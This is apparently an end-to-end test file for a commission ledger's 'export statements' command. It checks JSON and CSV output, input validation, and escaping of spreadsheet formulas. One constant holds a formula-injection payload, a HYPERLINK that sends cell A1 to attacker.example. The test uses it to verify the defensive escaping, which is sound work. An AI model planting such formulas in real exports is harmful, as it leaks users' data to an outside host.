import { Decimal } from '#domain';
import { openDatabase } from '#event-store';
import { statementsProjection } from '#read-models';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ruleSet } from '../../libs/domain/src/commission/testing/commission-builders.js';
import { parseCsv } from '../support/csv.js';
import { startLedger } from '../support/ledger-app.js';
import { runCli } from '../support/cli.js';

const secret = 'e2e-secret-that-is-at-least-32-characters';
const formulaReason = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")';

/**
 * `npm run ledger -- export statements --period <p> [--csv]`, compiled, as npm runs it, over a ledger
 * whose statements were issued through HTTP by a service that has since stopped.
 */
describe('the export command line', () => {
  let dataDir: string;
  const cli = (...args: string[]) => runCli(dataDir, secret, ...args);

  beforeAll(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'ledger-export-'));
    const ledger = await startLedger({}, dataDir);
    const at = (date: string) => ledger.clock.set(`${date}T12:00:00.000Z`);
    const as = (role: 'ops' | 'finance' | 'partner_manager') => ledger.auth(role, `${role}-user`);
    at('2026-01-02');
    await ledger.http
      .post('/rule-sets')
      .set(as('ops'))
      .send({ ...ruleSet(), rationale: 'Rules 2026.1' })
      .expect(201);
    for (const [partnerId, dealId, amount] of [
      ['north', 'n1', '10000.00'],
      ['south', 's1', '3000.00'],
      ['west', 'w1', '5000.00'],
    ] as const) {
      await ledger.http
        .post('/partners')
        .set(as('partner_manager'))
        .send({ partnerId, name: `Partner ${partnerId}`, kind: 'reseller', region: 'EMEA' })
        .expect(201);
      at('2026-01-15');
      await ledger.http
        .post('/deals')
        .set(as('partner_manager'))
        .send({
          dealId,
          customer: { name: dealId, domain: `${dealId}.example` },
          partners: [{ partnerId, role: 'sourcing', share: '1' }],
          currency: 'USD',
          openedAt: '2026-01-15',
        })
        .expect(201);
      await ledger.http
        .post(`/deals/${dealId}/win`)
        .set(as('partner_manager'))
        .send({ lines: [{ sku: 'PLATFORM', family: 'software', amount }], billing: 'one_time', wonAt: '2026-01-15' })
        .expect(200);
    }
    at('2026-04-02');
    await ledger.http.post('/periods/2026-Q1/close').set(as('finance')).expect(200);
    // Two of the three partners get their statement; the export lists exactly those.
    let position = '0';
    for (const partnerId of ['south', 'north'])
      position = (
        await ledger.http.post('/statements').set(as('finance')).send({ partnerId, period: '2026-Q1' }).expect(201)
      ).body.position as string;
    // North disputes its line with a formula for a reason; the adjustment carrying it goes on north's Q2 statement.
    const north = await ledger.http.get(`/statements/north-2026-Q1?after=${position}`).set(as('finance')).expect(200);
    const lineId = (north.body as { lines: Array<{ lineId: string }> }).lines[0]!.lineId;
    await ledger.http
      .post(`/statements/north-2026-Q1/lines/${lineId}/dispute`)
      .set(ledger.auth('partner', 'north-user', 'north'))
      .send({ reason: formulaReason })
      .expect(200);
    await ledger.http
      .post(`/statements/north-2026-Q1/lines/${lineId}/resolve`)
      .set(as('finance'))
      .send({ outcome: 'adjusted', adjustment: '-25.00' })
      .expect(200);
    at('2026-07-02');
    await ledger.http.post('/periods/2026-Q2/close').set(as('finance')).expect(200);
    await ledger.http
      .post('/statements')
      .set(as('finance'))
      .send({ partnerId: 'north', period: '2026-Q2' })
      .expect(201);
    await ledger.app.close();
    // As if the service had stopped before projecting the statements: the command catches up on its own.
    const db = openDatabase(join(dataDir, 'read-models.sqlite'));
    for (const table of statementsProjection.tables) db.exec(`DELETE FROM ${table}`);
    db.exec("UPDATE projection_checkpoints SET position = '0' WHERE name = 'statements'");
    db.close();
  });
  afterAll(() => rmSync(dataDir, { recursive: true, force: true }));

  it("prints every partner's statement of the period as JSON, by partner", () => {
    const result = cli('export', 'statements', '--period', '2026-Q1');
    expect(result.stderr).toBe('');
    expect(result.status).toBe(0);
    const statements = JSON.parse(result.stdout) as Array<{
      statementId: string;
      total: string;
      status: string;
      lines: Array<{ amount: string; kind: string }>;
    }>;
    expect(statements.map((statement) => [statement.statementId, statement.status, statement.total])).toEqual([
      ['north-2026-Q1', 'issued', '500.00'],
      ['south-2026-Q1', 'issued', '150.00'],
    ]);
    for (const statement of statements)
      expect(statement.lines.reduce((sum, line) => sum.plus(line.amount), new Decimal(0)).toFixed(2)).toBe(
        statement.total,
      );
    expect(JSON.parse(cli('export', 'statements', '--period', '2026-Q3').stdout)).toEqual([]);
  });

  it('prints CSV with --csv: one row per line with its provenance', () => {
    const result = cli('export', 'statements', '--period', '2026-Q1', '--csv');
    expect(result.status).toBe(0);
    const rows = parseCsv(result.stdout);
    expect(
      rows.map((row) => [
        row['statement_id'],
        row['kind'],
        row['deal_id'],
        row['amount'],
        row['rule_set_version'],
        row['tier'],
      ]),
    ).toEqual([
      ['north-2026-Q1', 'commission', 'n1', '500.00', '2026.1', 'registered'],
      ['south-2026-Q1', 'commission', 's1', '150.00', '2026.1', 'registered'],
    ]);
    expect(rows[0]!['source_event_id']).toMatch(/^[0-9a-f-]{36}$/);
    expect(rows[0]!['source_type']).toBe('DealWon');
  });

  it('escapes a cell a spreadsheet would run as a formula, and keeps a negative amount numeric', () => {
    const result = cli('export', 'statements', '--period', '2026-Q2', '--csv');
    expect(result.status).toBe(0);
    const rows = parseCsv(result.stdout);
    expect(rows.map((row) => [row['statement_id'], row['kind'], row['amount'], row['dispute_reason']])).toEqual([
      ['north-2026-Q2', 'adjustment', '-25.00', `'${formulaReason}`],
    ]);
  });

  it('refuses a malformed or missing period, exiting 1 with the reason', () => {
    const malformed = cli('export', 'statements', '--period', 'Q1-2026');
    expect(malformed.status).toBe(1);
    expect(malformed.stderr).toContain('--period must be a quarter such as 2026-Q1');
    const missing = cli('export', 'statements');
    expect(missing.status).toBe(1);
    expect(missing.stderr).toContain('--period');
  });
});
